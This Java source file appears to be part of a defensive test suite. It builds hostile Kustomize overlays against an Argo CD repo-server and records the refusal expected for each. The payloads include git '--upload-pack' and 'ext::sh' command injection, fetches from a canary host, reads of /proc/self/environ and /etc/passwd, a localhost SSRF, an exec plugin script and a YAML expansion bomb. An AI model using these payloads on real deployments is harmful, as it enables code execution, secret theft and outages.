package dev.platform.cluster;

import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * A folder of an environment as an attacker writes it who may push there.
 *
 * @param files by name
 * @param refusal what Argo CD has to say of it
 */
record HostileOverlay(String name, Map<String, String> files, String refusal) {

	/** The program that is to leave it would run in the repo-server. */
	static final String MARK = "/tmp/hostile-mark";

	private static final String NO_GIT = "no 'git' program on path";

	private static final String NO_NETWORK = "proxyconnect tcp: dial tcp 127.0.0.1:9: connect: connection refused";

	static List<HostileOverlay> all(String canary) {
		return List.of(resources("file:///nonexistent.git?ref=--upload-pack%3Dtouch%20" + MARK + "%20%23", NO_GIT),
				resources(
						"http://%s/base.git//overlay?ref=--upload-pack%%3Dtouch%%20%s%%20%%23".formatted(canary, MARK),
						NO_GIT),
				resources("https://%s/base.git".formatted(canary), NO_GIT),
				resources("ssh://git@%s/base.git//overlay?ref=main".formatted(canary), NO_GIT),
				resources("git@%s:base.git".formatted(canary), NO_GIT),
				resources("ext::sh -c touch% " + MARK, "no such file or directory"),
				// The network is open there; its repository is another team's all the
				// same.
				resources("http://git.git.svc.cluster.local/platform.git//gitops/base/vote?ref=main", NO_GIT),
				resources("http://%s/deployment.yaml".formatted(canary), NO_NETWORK),
				generator("kustomization.yaml", "files: [x=http://%s/x]".formatted(canary), NO_NETWORK),
				generator("Kustomization", "files: [x=https://%s/x]".formatted(canary), NO_NETWORK),
				generator("kustomization.yml", "envs: [http://%s/x.env]".formatted(canary), NO_NETWORK),
				generator("kustomization.yaml", "files: [x=http://127.0.0.1:8084/metrics]",
						"dial tcp 127.0.0.1:8084: connect: connection refused"),
				generator("kustomization.yaml", "files: [x=/proc/self/environ]", "is not in or below"),
				generator("kustomization.yaml", "files: [x=../../../../../../../etc/passwd]", "is not in or below"),
				overlay("openapi", "openapi: {path: 'http://%s/openapi.json'}".formatted(canary), Map.of(), NO_NETWORK),
				overlay("patch", "patches: [{path: 'http://%s/patch.yaml'}]".formatted(canary), Map.of(), NO_NETWORK),
				overlay("helm", "helmCharts: [{name: x, repo: 'http://%s', version: 1.0.0}]".formatted(canary),
						Map.of(), "must specify --enable-helm"),
				overlay("function", "transformers: [function.yaml]", Map.of("function.yaml", """
						apiVersion: example.com/v1
						kind: Touch
						metadata:
						  name: touch
						  annotations:
						    config.kubernetes.io/function: |
						      exec: {path: ./touch.sh}
						""", "touch.sh", "#!/bin/sh\ntouch " + MARK + "\n"), "external plugins disabled"),
				overlay("bomb", "resources: [bomb.yaml]", Map.of("bomb.yaml", bomb()), "it gets 1 GiB of memory"));
	}

	private static HostileOverlay resources(String reference, String refusal) {
		String text = "resources: ['%s']\n".formatted(reference.replace("'", "''"));
		return new HostileOverlay("hostile-" + Integer.toHexString(reference.hashCode()),
				Map.of("kustomization.yaml", text), refusal);
	}

	private static HostileOverlay generator(String file, String source, String refusal) {
		return new HostileOverlay("hostile-" + Integer.toHexString(source.hashCode()),
				Map.of(file, "configMapGenerator: [{name: stolen, %s}]\n".formatted(source)), refusal);
	}

	private static HostileOverlay overlay(String name, String kustomization, Map<String, String> more, String refusal) {
		Map<String, String> files = new HashMap<>(more);
		files.put("kustomization.yaml", kustomization + "\n");
		return new HostileOverlay("hostile-" + name, files, refusal);
	}

	// Nine levels of nine: ten thousand million words.
	private static String bomb() {
		String levels = IntStream.range(1, 10)
			.mapToObj((level) -> "  l%d: &l%d [%s]".formatted(level, level,
					("*l%d,".formatted(level - 1)).repeat(9).replaceAll(",$", "")))
			.collect(Collectors.joining("\n"));
		return "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\ndata:\n  l0: &l0 [x,x,x,x,x,x,x,x,x]\n"
				+ levels + "\n";
	}

	/** Its Application, in the environment that developers own. */
	String application() {
		return "dev-" + this.name;
	}

	String folder() {
		return "gitops/overlays/dev/" + this.name;
	}

	Map<String, String> paths() {
		return this.files.entrySet()
			.stream()
			.collect(Collectors.toMap((file) -> folder() + "/" + file.getKey(), Map.Entry::getValue));
	}

}
